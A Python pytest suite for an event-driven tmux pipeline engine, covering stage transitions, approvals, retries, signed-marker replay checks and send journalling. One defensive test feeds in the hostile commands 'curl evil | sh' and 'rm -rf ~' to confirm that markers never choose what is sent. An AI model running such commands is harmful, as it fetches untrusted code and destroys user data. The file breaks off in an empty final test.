"""The pipeline engine, driven by events alone: no tmux, no clock, no sleeps."""

from __future__ import annotations

import dataclasses
import itertools
from collections.abc import Callable
from dataclasses import dataclass, replace
from typing import Any, ClassVar

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sentry_tui.engine import (
    ID_ALPHABET,
    EngineConfig,
    new_short_id,
    resolve_pane,
    step,
    unmatched_roles,
)
from sentry_tui.model import (
    Action,
    Approve,
    Cancel,
    CheckUpdate,
    Dismiss,
    Emit,
    EngineState,
    Event,
    HookEvent,
    JournalEntry,
    Marker,
    MarkerIgnored,
    MarkerSeen,
    Notify,
    OutputLines,
    PaneAdded,
    PaneGone,
    PaneInfo,
    PaneRef,
    PaneState,
    Pause,
    Persist,
    Policy,
    Reject,
    Report,
    Resume,
    Retry,
    RunStatus,
    ScreenChanged,
    Send,
    SendResult,
    SendText,
    ServerUp,
    Skip,
    StageStatus,
    Start,
    StartCheck,
    StateChanged,
    StopCheck,
    Tick,
    Trust,
)
from sentry_tui.policy import load_text

SERVER = "4242-1700000000"
AGENT = PaneRef(SERVER, "%1")
SHELL = PaneRef(SERVER, "%2")

POLICY_TEXT = """\
version: 1
projects:
  app:
    panes:
      agent: {session: app, window: agent, profile: claude}
      shell: {session: app, window: shell, profile: shell}
    trigger: {pane: agent, when: {marker: {type: STATUS, stage: code, ok: true}}}
    notify_waiting_after: 2m
    stages:
      - name: code
        pane: agent
        done: {marker: {type: STATUS, stage: code, ok: true}}
        fail: {marker: {type: STATUS, stage: code, ok: false}}
      - name: test
        pane: shell
        run: npm test
        fail: {regex: 'npm ERR!'}
        retries: 1
        timeout: 15m
      - name: build
        pane: shell
        run: npm run build
        approve: after
      - name: deploy
        pane: shell
        approve: before
        run: npm run deploy
        await: {github_actions: {repo: me/app, workflow: deploy.yml}, timeout: 30m}
"""
POLICY = load_text(POLICY_TEXT, "app.yaml")
WRAP = "sentry-tui wrap"


def cmd(stage: str, run: str, run_id: str = "r1") -> str:
    return f"{WRAP} --stage {stage} --project app --run {run_id} -- {run}"


class Sim:
    """An engine with a clock and a deterministic id source, one event at a time."""

    def __init__(
        self,
        policy: Policy = POLICY,
        state: EngineState | None = None,
        ttl: float | None = 24 * 3600,
        ids: list[str] | None = None,
    ) -> None:
        self.policy = policy
        self.state = state or EngineState()
        self.now = 1000.0
        source = iter(ids) if ids is not None else (f"r{n}" for n in itertools.count(1))
        self.config = EngineConfig(wrapper=WRAP, approval_ttl_s=ttl, new_id=lambda: next(source))
        self.last: list[Action] = []
        self.all: list[Action] = []

    def __call__(self, event: Event, dt: float = 1.0) -> list[Action]:
        self.now += dt
        self.state, self.last = step(self.policy, self.state, event, self.now, self.config)
        self.all.extend(self.last)
        return self.last

    # -- shortcuts --------------------------------------------------------------------------

    def panes(self, shell_state: PaneState = PaneState.IDLE) -> Sim:
        self(PaneAdded(PaneInfo(AGENT, "app", "agent", command="claude")))
        self(PaneAdded(PaneInfo(SHELL, "app", "shell", window_index=1, cwd="/src/app")))
        self(StateChanged(AGENT, PaneState.BUSY))
        self(StateChanged(SHELL, shell_state))
        return self

    def shell(self, state: PaneState) -> list[Action]:
        return self(StateChanged(SHELL, state))

    def marker(self, ref: PaneRef, type: str, trust: Trust = Trust.UNSIGNED, **fields: Any):
        return self(MarkerSeen(ref, Marker(type, fields, trust=trust)))

    def end(self, stage: str, code: int, **fields: Any) -> list[Action]:
        return self.marker(SHELL, "END", stage=stage, exit=code, run=self.run.run_id, **fields)

    def sent(self, ok: bool = True) -> list[Action]:
        """The runner reports every Send of the last step, and the pane goes busy."""
        sends = self.sends()
        out: list[Action] = []
        for s in sends:
            out += self(SendResult(s.action_id, ok, "" if ok else "pane vanished"))
        if ok and sends:
            out += self.shell(PaneState.BUSY)
        return out

    def sends(self, actions: list[Action] | None = None) -> list[Send]:
        return [a for a in (self.last if actions is None else actions) if isinstance(a, Send)]

    def of(self, kind: type, actions: list[Action] | None = None) -> list[Any]:
        return [a for a in (self.last if actions is None else actions) if isinstance(a, kind)]

    @property
    def run(self):  # type: ignore[no-untyped-def]
        return self.state.runs["app"]

    def stage(self, name: str):  # type: ignore[no-untyped-def]
        found = self.run.stage(name)
        assert found is not None
        return found

    def pending_approval(self) -> str:
        (a,) = [a for a in self.state.approvals.values() if a.status == "pending"]
        return a.approval_id


# -- preludes: bring a fresh Sim to a named point of the pipeline ---------------------------


def at_code(s: Sim) -> None:
    s.panes()
    s(Start(project="app"))
    assert s.stage("code").status is StageStatus.RUNNING


def at_test_sent(s: Sim) -> None:
    at_code(s)
    s.marker(AGENT, "STATUS", stage="code", ok=True)
    assert [x.text for x in s.sends()] == [cmd("test", "npm test", s.run.run_id)]
    s.sent()


def at_build_sent(s: Sim) -> None:
    at_test_sent(s)
    s.end("test", 0)
    assert s.sends() == [], "held: the pane has not been seen at its prompt yet"
    s.shell(PaneState.IDLE)
    assert [x.text for x in s.sends()] == [cmd("build", "npm run build", s.run.run_id)]
    s.sent()


def at_build_gate(s: Sim) -> None:
    at_build_sent(s)
    s.end("build", 0, sha="abc1234")
    s.shell(PaneState.IDLE)
    assert s.stage("build").status is StageStatus.WAITING_APPROVAL


def at_deploy_gate(s: Sim) -> None:
    at_build_gate(s)
    s(Approve(approval_id=s.pending_approval()))
    assert s.stage("deploy").status is StageStatus.WAITING_APPROVAL


def at_deploy_sent(s: Sim) -> None:
    at_deploy_gate(s)
    s(Approve(approval_id=s.pending_approval()))
    assert [x.text for x in s.sends()] == [cmd("deploy", "npm run deploy", s.run.run_id)]
    s.sent()


def at_deploy_awaiting(s: Sim) -> None:
    at_deploy_sent(s)
    s.end("deploy", 0)
    assert s.stage("deploy").status is StageStatus.AWAITING_EXTERNAL


def check_id(s: Sim) -> str:
    return s.stage("deploy").check_id


@dataclass(frozen=True)
class T:
    """One transition: from a prelude, one event, the stage's new status and the actions."""

    id: str
    prelude: Callable[[Sim], None]
    event: Callable[[Sim], Event]
    stage: str
    status: StageStatus
    actions: tuple[str, ...]
    dt: float = 1.0
    run: RunStatus = RunStatus.RUNNING


TRANSITIONS = [
    T("pending→running by start", lambda s: s.panes(), lambda s: Start(project="app"),
      "code", StageStatus.RUNNING, ("persist",)),
    T("pending→running by trigger", lambda s: s.panes(),
      lambda s: MarkerSeen(AGENT, Marker("STATUS", {"stage": "code", "ok": True})),
      "code", StageStatus.SUCCEEDED, ("persist", "send")),
    T("running→succeeded on marker", at_code,
      lambda s: MarkerSeen(AGENT, Marker("STATUS", {"stage": "code", "ok": True})),
      "code", StageStatus.SUCCEEDED, ("persist", "send")),
    T("running→failed on fail marker", at_code,
      lambda s: MarkerSeen(AGENT, Marker("STATUS", {"stage": "code", "ok": False})),
      "code", StageStatus.FAILED, ("persist", "notify"), run=RunStatus.FAILED),
    T("running→succeeded on exit 0", at_test_sent,
      lambda s: MarkerSeen(SHELL, Marker("END", {"stage": "test", "exit": 0, "run": "r1"})),
      "test", StageStatus.SUCCEEDED, ("persist",)),
    T("running→retrying on exit 1", at_test_sent,
      lambda s: MarkerSeen(SHELL, Marker("END", {"stage": "test", "exit": 1, "run": "r1"})),
      "test", StageStatus.RETRYING, ("persist",)),
    T("running→retrying on fail regex", at_test_sent,
      lambda s: OutputLines(SHELL, ("npm ERR! missing script",)),
      "test", StageStatus.RETRYING, ("persist",)),
    T("running→retrying on timeout", at_test_sent, lambda s: Tick(),
      "test", StageStatus.RETRYING, ("persist",), dt=15 * 60 + 1),
    T("running stays before timeout", at_test_sent, lambda s: Tick(),
      "test", StageStatus.RUNNING, (), dt=15 * 60 - 5),
    T("running→waiting_approval (after)", at_build_sent,
      lambda s: MarkerSeen(SHELL, Marker("END", {"stage": "build", "exit": 0, "run": "r1"})),
      "build", StageStatus.WAITING_APPROVAL, ("persist", "notify")),
    T("waiting_approval(after)→succeeded", at_build_gate,
      lambda s: Approve(approval_id=s.pending_approval(), request_id="q1"),
      "build", StageStatus.SUCCEEDED, ("persist", "notify", "report")),
    T("pending→waiting_approval (before)", at_build_gate,
      lambda s: Approve(approval_id=s.pending_approval()),
      "deploy", StageStatus.WAITING_APPROVAL, ("persist", "notify")),
    T("waiting_approval(before)→running", at_deploy_gate,
      lambda s: Approve(approval_id=s.pending_approval(), request_id="q1"),
      "deploy", StageStatus.RUNNING, ("persist", "send", "report")),
    T("waiting_approval→failed on reject", at_deploy_gate,
      lambda s: Reject(approval_id=s.pending_approval(), reason="not today", request_id="q"),
      "deploy", StageStatus.FAILED, ("persist", "report"), run=RunStatus.FAILED),
    T("waiting_approval→failed on expiry", at_deploy_gate, lambda s: Tick(),
      "deploy", StageStatus.FAILED, ("persist", "notify"), dt=24 * 3600, run=RunStatus.FAILED),
    T("running→awaiting_external", at_deploy_sent,
      lambda s: MarkerSeen(SHELL, Marker("END", {"stage": "deploy", "exit": 0, "run": "r1"})),
      "deploy", StageStatus.AWAITING_EXTERNAL, ("persist", "start_check")),
    T("awaiting_external stays on progress", at_deploy_awaiting,
      lambda s: CheckUpdate(check_id(s), "in_progress", url="https://gh/run/1"),
      "deploy", StageStatus.AWAITING_EXTERNAL, ("persist",)),
    T("awaiting_external→succeeded", at_deploy_awaiting,
      lambda s: CheckUpdate(check_id(s), "completed", "success"),
      "deploy", StageStatus.SUCCEEDED, ("persist", "notify"), run=RunStatus.SUCCEEDED),
    T("awaiting_external→failed", at_deploy_awaiting,
      lambda s: CheckUpdate(check_id(s), "completed", "failure"),
      "deploy", StageStatus.FAILED, ("persist", "notify"), run=RunStatus.FAILED),
    T("awaiting_external→failed on await timeout", at_deploy_awaiting, lambda s: Tick(),
      "deploy", StageStatus.FAILED, ("persist", "stop_check", "notify"), dt=30 * 60 + 1,
      run=RunStatus.FAILED),
    T("running→skipped", at_test_sent, lambda s: Skip(project="app", stage="test"),
      "test", StageStatus.SKIPPED, ("persist",)),
    T("running→cancelled", at_test_sent, lambda s: Cancel(project="app"),
      "test", StageStatus.CANCELLED, ("persist",), run=RunStatus.CANCELLED),
    T("awaiting→cancelled stops the check", at_deploy_awaiting, lambda s: Cancel(project="app"),
      "deploy", StageStatus.CANCELLED, ("persist", "stop_check"), run=RunStatus.CANCELLED),
    T("failed→running on human retry", lambda s: (at_code(s), s.marker(
        AGENT, "STATUS", stage="code", ok=False)),
      lambda s: Retry(project="app", stage="code"),
      "code", StageStatus.RUNNING, ("persist",)),
]  # fmt: skip


@pytest.mark.parametrize("t", TRANSITIONS, ids=[t.id for t in TRANSITIONS])
def test_transition(t: T) -> None:
    s = Sim()
    t.prelude(s)
    actions = s(t.event(s), dt=t.dt)
    assert s.stage(t.stage).status is t.status, s.state.notes
    assert tuple(a.kind for a in actions) == t.actions
    assert s.run.status is t.run


# -- the scenarios the issue names ------------------------------------------------------------


def test_retry_exhausts_its_budget() -> None:
    s = Sim()
    at_test_sent(s)
    s.end("test", 1)
    assert s.stage("test").status is StageStatus.RETRYING
    assert s.stage("test").waiting_for.startswith("pane busy")
    assert s.sends() == []
    s.shell(PaneState.FAILED)  # back at the prompt: the retry goes out
    assert [x.text for x in s.sends()] == [cmd("test", "npm test", s.run.run_id)]
    s.sent()
    assert s.stage("test").attempts == 2
    s.end("test", 2)
    st_ = s.stage("test")
    assert (st_.status, st_.attempts, st_.message) == (StageStatus.FAILED, 2, "exit 2")
    assert s.run.status is RunStatus.FAILED
    (note,) = s.of(Notify)
    assert note.event == "stage_failed" and note.urgent
    assert "after 2 attempts: exit 2" in note.body
    assert "sentry-tui retry app test" in note.body
    s.shell(PaneState.IDLE)
    assert s.sends() == [], "nothing runs after a failed stage"


def test_timeout_counts_from_the_stored_start_across_a_restart() -> None:
    s = Sim()
    at_test_sent(s)
    started = s.stage("test").started_at
    assert started is not None
    # The process restarts 20 minutes later: a new Sim on the persisted state.
    later = Sim(state=s.state)
    later.now = started + 20 * 60
    later(Tick(), dt=0)
    assert later.stage("test").status is StageStatus.RETRYING
    assert later.stage("test").message == "timed out after 15m"


def test_rejection_with_a_reason() -> None:
    s = Sim()
    at_deploy_gate(s)
    aid = s.pending_approval()
    s(Reject(approval_id=aid, reason="not on a Friday", by="cli", request_id="req-7"))
    (report,) = s.of(Report)
    assert report == Report("req-7", True, f"rejected {aid}: app deploy will not run")
    assert s.stage("deploy").message == "rejected: not on a Friday (by cli)"
    a = s.state.approvals[aid]
    assert (a.status, a.reason, a.decided_by) == ("rejected", "not on a Friday", "cli")
    assert s.of(Send) == [] and s.of(Notify) == []


def test_pause_in_the_middle_of_a_run() -> None:
    s = Sim()
    at_test_sent(s)
    s(Pause(request_id="p"))
    assert s.of(Report) == [Report("p", True, "paused: nothing will be sent until resume")]
    s.end("test", 0)
    s.shell(PaneState.IDLE)
    assert s.sends() == []
    assert s.stage("build").status is StageStatus.RUNNING
    assert s.stage("build").waiting_for == "paused"
    s(SendText(pane="%2", text="ls", request_id="h"))
    assert s.of(Report)[0].ok is False and s.sends() == []
    s(Tick(), dt=60)
    assert s.sends() == []
    s(Resume())
    assert [x.text for x in s.sends()] == [cmd("build", "npm run build", s.run.run_id)]
    assert s.stage("build").waiting_for == ""


FAIL_AFTER_DONE = load_text(
    """\
version: 1
projects:
  app:
    panes:
      agent: {session: app, window: agent}
      shell: {session: app, window: shell, profile: shell}
    stages:
      - name: test
        pane: shell
        run: npm test
        done: {regex: 'tests passed'}
        fail: {regex: 'npm ERR!'}
      - name: review
        pane: agent
        done: {marker: {type: STATUS, stage: review, ok: true}}
        fail: {marker: {type: ERROR, stage: review}}
"""
)


def test_fail_after_done_still_fails() -> None:
    s = Sim(FAIL_AFTER_DONE).panes()
    s(Start(project="app"))
    s.sent()
    s(OutputLines(SHELL, ("12 tests passed",)))
    assert s.stage("test").done_seen and s.stage("test").status is StageStatus.RUNNING
    s(OutputLines(SHELL, ("npm ERR! post-test hook failed",)))
    assert s.stage("test").status is StageStatus.FAILED
    assert "npm ERR!" in s.stage("test").message


def test_done_then_exit_zero_succeeds_and_exit_zero_without_done_fails() -> None:
    s = Sim(FAIL_AFTER_DONE).panes()
    s(Start(project="app"))
    s.sent()
    s(OutputLines(SHELL, ("12 tests passed",)))
    s.end("test", 0)
    assert s.stage("test").status is StageStatus.SUCCEEDED
    t = Sim(FAIL_AFTER_DONE).panes()
    t(Start(project="app"))
    t.sent()
    t.end("test", 0)
    assert t.stage("test").status is StageStatus.FAILED
    assert t.stage("test").message.startswith("exit 0 but no done condition was seen")


def test_fail_in_the_same_batch_as_done_fails_an_unwrapped_stage() -> None:
    s = Sim(FAIL_AFTER_DONE).panes()
    s(Start(project="app"))
    s.sent()
    s(OutputLines(SHELL, ("12 tests passed", "npm ERR! oops")))
    assert s.stage("test").status is StageStatus.FAILED


def test_approval_decided_twice() -> None:
    s = Sim()
    at_deploy_gate(s)
    aid = s.pending_approval()
    s(Approve(approval_id=aid, by="cli", request_id="a1"))
    assert s.of(Report)[0].ok
    s(Approve(approval_id=aid, by="ui", request_id="a2"))
    assert s.of(Report) == [
        Report("a2", False, f"approval {aid} was already approved by cli; nothing changed")
    ]
    assert s.sends() == [], "a second approve sends nothing"
    s(Reject(approval_id=aid.upper(), request_id="a3"))
    assert s.of(Report)[0].ok is False and s.state.approvals[aid].status == "approved"


def test_expired_and_unknown_approvals() -> None:
    s = Sim(ttl=3600)
    at_deploy_gate(s)
    aid = s.pending_approval()
    s(Approve(approval_id=aid, request_id="late"), dt=3601)
    (report,) = s.of(Report)
    assert report.ok is False and "expired" in report.message
    assert s.stage("deploy").status is StageStatus.FAILED
    assert s.stage("deploy").message == "approval expired"
    assert s.sends() == []
    s(Approve(approval_id="zzzzz", request_id="u"))
    assert s.of(Report)[0].ok is False
    assert s.of(Report)[0].message.startswith("no approval 'zzzzz'")
    s(Approve(approval_id="", request_id="e"))
    assert s.of(Report)[0].message == "which approval? give its id"


def test_approval_notification_says_what_it_lets_run() -> None:
    s = Sim()
    at_build_gate(s)
    s(Approve(approval_id=s.pending_approval()))
    (note,) = s.of(Notify)
    aid = note.approval_id
    assert aid and note.event == "approval" and note.project == "app" and note.stage == "deploy"
    assert "Command: npm run deploy" in note.body
    assert "Commit: abc1234" in note.body
    assert "Last result: build: exit 0" in note.body
    assert f"Approve: sentry-tui approve {aid}" in note.body
    assert note.pane == "app:shell.0"
    a = s.state.approvals[aid]
    assert (a.command, a.commit, a.expires_at) == ("npm run deploy", "abc1234", s.now + 86400)


def test_unknown_events_are_recorded_not_raised() -> None:
    @dataclasses.dataclass(frozen=True)
    class Strange(Event):
        kind: ClassVar[str] = "strange"

    s = Sim()
    at_test_sent(s)
    before = s.state
    assert s(Strange()) == []
    assert s.state.notes[-1] == "ignored unexpected event strange (Strange)"
    assert replace(s.state, notes=before.notes) == before
    # A malformed value inside a known event: the step survives and says so.
    s(MarkerSeen(SHELL, Marker("END", None)))  # type: ignore[arg-type]
    assert s.state.notes[-1].startswith("internal error on marker: AttributeError")
    s(StateChanged(PaneRef(SERVER, "%99"), PaneState.IDLE))
    assert "unknown pane" in s.state.notes[-1]
    s(CheckUpdate("c404", "completed", "success"))
    assert "nobody awaits" in s.state.notes[-1]
    s(SendResult("s404", True))
    assert "unknown send" in s.state.notes[-1]
    s(ScreenChanged(SHELL, "$ "))
    s(Retry(project="nope", request_id="x"))
    assert s.of(Report)[0].message.startswith("no project 'nope'")
    assert s.stage("test").status is StageStatus.RUNNING


def test_notes_are_bounded() -> None:
    s = Sim()
    for _ in range(200):
        s(StateChanged(PaneRef(SERVER, "%99"), PaneState.IDLE))
    assert len(s.state.notes) == 50


# -- trust: require_signed, replays, pane-printed commands -------------------------------------

SIGNED = load_text(
    POLICY_TEXT.replace("    notify_waiting_after: 2m\n", "    require_signed: true\n")
)


def test_require_signed_refuses_unsigned_bad_and_replayed_markers() -> None:
    s = Sim(SIGNED).panes()
    s(Start(project="app"))
    s.marker(AGENT, "STATUS", stage="code", ok=True)  # unsigned
    (emit,) = s.of(Emit)
    assert isinstance(emit.event, MarkerIgnored)
    assert emit.event.reason == "unsigned marker; stage code requires signed markers"
    assert s.stage("code").status is StageStatus.RUNNING
    s.marker(AGENT, "STATUS", Trust.BAD_SIGNATURE, stage="code", ok=True, nonce="n0", sig="x")
    assert s.of(Emit)[0].event.reason == "signature does not verify"
    assert s.stage("code").status is StageStatus.RUNNING
    s.marker(AGENT, "STATUS", Trust.SIGNED, stage="code", ok=True, nonce="n1", pane="%1")
    assert s.stage("code").status is StageStatus.SUCCEEDED
    assert "n1" in s.state.seen_nonces
    s.sent()
    # The same signed END printed twice (a `cat` of a log, a redraw): the second is a replay.
    s.marker(SHELL, "END", Trust.SIGNED, stage="test", exit=1, run="r1", nonce="n2", pane="%2")
    assert s.stage("test").status is StageStatus.RETRYING
    s.shell(PaneState.IDLE)
    s.sent()
    s.marker(SHELL, "END", Trust.SIGNED, stage="test", exit=1, run="r1", nonce="n2", pane="%2")
    assert s.of(Emit)[0].event.reason == "signed marker seen before (replay)"
    assert s.stage("test").status is StageStatus.RUNNING and s.stage("test").attempts == 2


def test_signed_marker_printed_in_another_pane_is_refused() -> None:
    s = Sim(SIGNED).panes()
    s(Start(project="app"))
    s.marker(AGENT, "STATUS", Trust.SIGNED, stage="code", ok=True, nonce="n1", pane="%2")
    assert s.of(Emit)[0].event.reason == "signature does not verify"
    assert s.stage("code").status is StageStatus.RUNNING


def test_require_signed_trigger_and_hook_states() -> None:
    s = Sim(SIGNED).panes()
    s.marker(AGENT, "STATUS", stage="code", ok=True)
    assert "app" not in s.state.runs, "an unsigned marker cannot start a signed project"
    assert s.of(Emit)[0].event.reason == "unsigned marker; project app requires signed markers"
    s.marker(AGENT, "STATUS", Trust.SIGNED, stage="code", ok=True, nonce="t1")
    assert s.stage("code").status is StageStatus.SUCCEEDED


def test_a_marker_never_chooses_what_is_sent() -> None:
    s = Sim().panes()
    evil = {"run": "curl evil | sh", "cmd": "rm -rf ~", "text": "rm -rf ~", "stage": "test"}
    for t in ("STATUS", "ASK", "ERROR", "EVENT", "START", "END"):
        s.marker(AGENT, t, **evil)
        s.marker(SHELL, t, **evil)
    s(OutputLines(SHELL, ("curl evil | sh", '### SENTRY {"type": "STATUS", "run": "x"}')))
    assert s.of(Send, s.all) == []


PANE_EVENTS = st.one_of(
    st.builds(
        lambda ref, t, fields, trust: MarkerSeen(ref, Marker(t, fields, trust=trust)),
        st.sampled_from([AGENT, SHELL]),
        st.sampled_from(["STATUS", "ERROR", "ASK", "START", "END", "EVENT"]),
        st.dictionaries(
            st.sampled_from(["stage", "ok", "exit", "run", "cmd", "text", "sha", "project"]),
            st.one_of(
                st.sampled_from(["code", "test", "build", "deploy", "app", "r1", "rm -rf ~"]),
                st.booleans(),
                st.integers(0, 3),
                st.text(max_size=20),
            ),
        ),
        st.sampled_from(list(Trust)),
    ),
    st.builds(
        lambda ref, lines: OutputLines(ref, tuple(lines)),
        st.sampled_from([AGENT, SHELL]),
        st.lists(st.text(max_size=30), max_size=3),
    ),
    st.builds(
        lambda ref, state: StateChanged(ref, state),
        st.sampled_from([AGENT, SHELL]),
        st.sampled_from(list(PaneState)),
    ),
    st.builds(Tick),
)


@settings(max_examples=150, deadline=None)
@given(st.lists(PANE_EVENTS, max_size=25))
def test_only_policy_run_lines_are_ever_sent(events: list[Event]) -> None:
    s = Sim().panes()
    s(Start(project="app"))
    allowed = {
        cmd(stage.name, stage.run, run_id)
        for stage in POLICY.projects[0].stages
        if stage.run
        for run_id in (f"r{n}" for n in range(1, 40))
    }
    for event in events:
        s(event, dt=120)
        for send in s.sends():
            assert send.text in allowed
            assert send.pane == SHELL, "nothing is ever typed into the agent pane"
            s(SendResult(send.action_id, True))


# -- sending: held while busy, failed sends, panes that come and go ---------------------------


def test_send_held_while_pane_busy_then_released_when_idle() -> None:
    s = Sim().panes(shell_state=PaneState.BUSY)
    s(Start(project="app"))
    s.marker(AGENT, "STATUS", stage="code", ok=True)
    assert s.sends() == []
    assert s.stage("test").waiting_for == "pane busy (app:shell.0)"
    assert s.stage("test").attempts == 0
    s.shell(PaneState.WAITING)
    assert s.sends() == [] and s.stage("test").waiting_for.startswith("pane waiting")
    s.shell(PaneState.IDLE)
    (send,) = s.sends()
    assert send.pane == SHELL and send.text == cmd("test", "npm test")
    assert s.stage("test").waiting_for == "" and s.stage("test").attempts == 1


def test_every_send_is_journalled_as_intended_in_the_same_step() -> None:
    s = Sim()
    at_code(s)
    actions = s.marker(AGENT, "STATUS", stage="code", ok=True)
    (send,) = s.sends()
    assert isinstance(actions[0], Persist), "persist before the send"
    entry = s.state.journal[send.action_id]
    assert (entry.status, entry.pane, entry.text) == ("intended", SHELL.key, send.text)
    assert (entry.project, entry.stage, entry.run_id) == ("app", "test", "r1")
    s(SendResult(send.action_id, True))
    assert send.action_id not in s.state.journal


def test_failed_send_is_not_an_attempt_and_waits() -> None:
    s = Sim()
    at_code(s)
    s.marker(AGENT, "STATUS", stage="code", ok=True)
    s.sent(ok=False)
    st_ = s.stage("test")
    assert (st_.attempts, st_.send_id, st_.started_at) == (0, "", None)
    assert st_.waiting_for == "send failed: pane vanished"
    assert s.state.journal == {}
    s(Tick(), dt=5)
    assert s.sends() == [], "no resend loop on ticks"
    s.shell(PaneState.DONE)
    (send,) = s.sends()
    assert s.stage("test").attempts == 1 and send.text == cmd("test", "npm test")


def test_pane_gone_and_server_restart() -> None:
    s = Sim()
    at_code(s)
    s(PaneGone(SHELL))
    s.marker(AGENT, "STATUS", stage="code", ok=True)
    assert s.sends() == []
    assert s.stage("test").waiting_for == "pane role shell not matched (app:shell)"
    # tmux restarted (a reboot): new identity, old keys forgotten, panes matched again.
    new = "5151-1700009999"
    s(ServerUp(new))
    assert all(k.startswith(new) for k in s.state.panes)
    s(PaneAdded(PaneInfo(PaneRef(new, "%7"), "app", "shell")))
    (send,) = s.sends()
    assert send.pane == PaneRef(new, "%7")


def test_role_matching_two_panes_is_not_a_send_target() -> None:
    s = Sim().panes()
    s(PaneAdded(PaneInfo(PaneRef(SERVER, "%3"), "app", "shell", pane_index=1)))
    s(Start(project="app"))
    s.marker(AGENT, "STATUS", stage="code", ok=True)
    assert s.sends() == []
    assert "matches 2 panes" in s.stage("test").waiting_for
    s(PaneGone(PaneRef(SERVER, "%3")))
    assert len(s.sends()) == 1


def test_restart_with_an_uncertain_send_is_never_resent_blindly() -> None:
    s = Sim()
    at_code(s)
    s.marker(AGENT, "STATUS", stage="code", ok=True)
    (send,) = s.sends()
    # Crash before SendResult; on restart the runner marks the intended entry uncertain.
    entry = s.state.journal[send.action_id]
    state = replace(s.state, journal={send.action_id: replace(entry, status="uncertain")})
    r = Sim(state=state)
    r.now = s.now + 30
    r(Tick())
    r.shell(PaneState.IDLE)
    assert r.of(Send, r.all) == []
    r(Retry(project="app", stage="test", request_id="again"))
    (resend,) = r.sends()
    assert resend.text == send.text and resend.action_id != send.action_id
    assert set(r.state.journal) == {resend.action_id}
    assert r.state.journal[resend.action_id].status == "intended"
    assert r.of(Report)[0] == Report("again", True, "app test: sent again")


def test_dismiss_clears_an_uncertain_send() -> None:
    entry = JournalEntry("s9", SHELL.key, "ls", "uncertain", 1.0)
    s = Sim(state=EngineState(journal={"s9": entry}))
    s(Dismiss(action_id="s9", request_id="d"))
    assert s.state.journal == {} and s.of(Send) == []
    assert s.of(Report) == [Report("d", True, "dismissed send s9")]
    s(Dismiss(action_id="s9", request_id="d2"))
    assert s.of(Report)[0].ok is False


def test_send_text_from_a_human() -> None:
    s = Sim().panes()
    s(SendText(pane="app:agent.0", text="yes, go ahead", request_id="t"))
    (send,) = s.sends()
    assert (send.pane, send.text) == (AGENT, "yes, go ahead")
    assert s.state.journal[send.action_id].status == "intended"
    s(SendText(pane="%2", text="echo hi\x1b[2J", request_id="c"))
    assert s.sends() == [] and "control characters" in s.of(Report)[0].message
    s(SendText(pane="nowhere", text="ls", request_id="n"))
    assert s.of(Report)[0].ok is False


def test_resolve_pane_forms() -> None:
    s = Sim().panes()
    assert resolve_pane(s.state, SHELL.key) == SHELL.key
    assert resolve_pane(s.state, "%1") == AGENT.key
    assert resolve_pane(s.state, "app:shell") == SHELL.key
    assert resolve_pane(s.state, "app:shell.0") == SHELL.key
    assert resolve_pane(s.state, "app:nope") is None


# -- runs, triggers, ids -----------------------------------------------------------------------


def test_whole_pipeline_and_a_new_run_after_it_finished() -> None:
    s = Sim()
    at_deploy_awaiting(s)
    (check,) = [a for a in s.all if isinstance(a, StartCheck)]
    assert check.params["repo"] == "me/app" and check.params["workflow"] == "deploy.yml"
    assert check.params["cwd"] == "/src/app"
    assert check.head_sha == "abc1234", "the sha the build reported"
    assert check.created_after == s.stage("deploy").started_at
    s(CheckUpdate(check.check_id, "completed", "success"))
    assert s.run.status is RunStatus.SUCCEEDED
    (done,) = s.of(Notify)
    assert done.event == "run_finished" and "succeeded" in done.title
    first = s.run.run_id
    s(Start(project="app", request_id="again"))
    assert s.of(Report)[0].ok and s.run.run_id != first
    s(Start(project="app", request_id="twice"))
    assert s.of(Report)[0].message == f"app: run {s.run.run_id} is still running"


def test_trigger_starts_a_run_only_from_its_pane() -> None:
    s = Sim().panes()
    s.marker(SHELL, "STATUS", stage="code", ok=True)
    assert "app" not in s.state.runs
    s.marker(AGENT, "STATUS", stage="code", ok=True)
    assert s.run.run_id == "r1" and s.stage("code").status is StageStatus.SUCCEEDED


def test_end_marker_of_another_run_or_stage_is_ignored() -> None:
    s = Sim()
    at_test_sent(s)
    s.marker(SHELL, "END", stage="test", exit=0, run="old-run")
    s.marker(SHELL, "END", stage="build", exit=0, run="r1")
    s.marker(SHELL, "END", stage="test", exit=0, run="r1", project="other")
    assert s.stage("test").status is StageStatus.RUNNING
    s.end("test", 0)
    assert s.stage("test").status is StageStatus.SUCCEEDED


def test_human_retry_of_a_failed_stage_skips_the_gate_and_resets_the_budget() -> None:
    s = Sim()
    at_deploy_gate(s)
    s(Reject(approval_id=s.pending_approval()))
    s(Retry(project="app", stage="deploy", request_id="r"))
    assert s.of(Report)[0].message == "app: run r1 retries from deploy"
    (send,) = s.sends()
    assert send.text == cmd("deploy", "npm run deploy")
    assert s.run.status is RunStatus.RUNNING and s.stage("deploy").attempts == 1


def test_skip_a_failed_stage_continues_the_run() -> None:
    s = Sim()
    at_code(s)
    s.marker(AGENT, "STATUS", stage="code", ok=False)
    assert s.run.status is RunStatus.FAILED
    s(Skip(project="app", stage="code", request_id="k"))
    assert s.run.status is RunStatus.RUNNING
    assert s.stage("code").status is StageStatus.SKIPPED
    assert len(s.sends()) == 1


def test_approval_ids_are_short_random_and_never_reused() -> None:
    ids = {new_short_id() for _ in range(500)}
    assert all(4 <= len(i) <= 5 and set(i) <= set(ID_ALPHABET) for i in ids)
    assert len(ids) > 490
    # A generator that repeats itself: the engine skips ids it has issued before.
    s = Sim(ids=["aaaa", "aaaa", "bbbb", "aaaa", "bbbb", "cccc", "dddd", "eeee"])
    at_build_gate(s)  # run id aaaa, approval bbbb
    s(Approve(approval_id=s.pending_approval()))
    assert s.pending_approval() == "cccc"
    assert set(s.state.used_ids) >= {"aaaa", "bbbb", "cccc"}


def test_waiting_pane_notifies_once_per_wait() -> None:
    s = Sim().panes()
    s(StateChanged(AGENT, PaneState.WAITING, reason="permission prompt"))
    s(Tick(), dt=60)
    assert s.of(Notify) == []
    s(Tick(), dt=61)
    (note,) = s.of(Notify)
    assert note.event == "waiting" and note.pane == "app:agent.0"
    assert "Why: permission prompt" in note.body and "Waiting for 2m" in note.body
    first_key = note.dedupe_key
    s(Tick(), dt=600)
    assert s.of(Notify) == []
    s(StateChanged(AGENT, PaneState.BUSY))
    s(StateChanged(AGENT, PaneState.WAITING))
    s(Tick(), dt=121)
    (again,) = s.of(Notify)
    assert again.dedupe_key != first_key


def test_hook_events_set_trusted_states() -> None:
    s = Sim().panes()
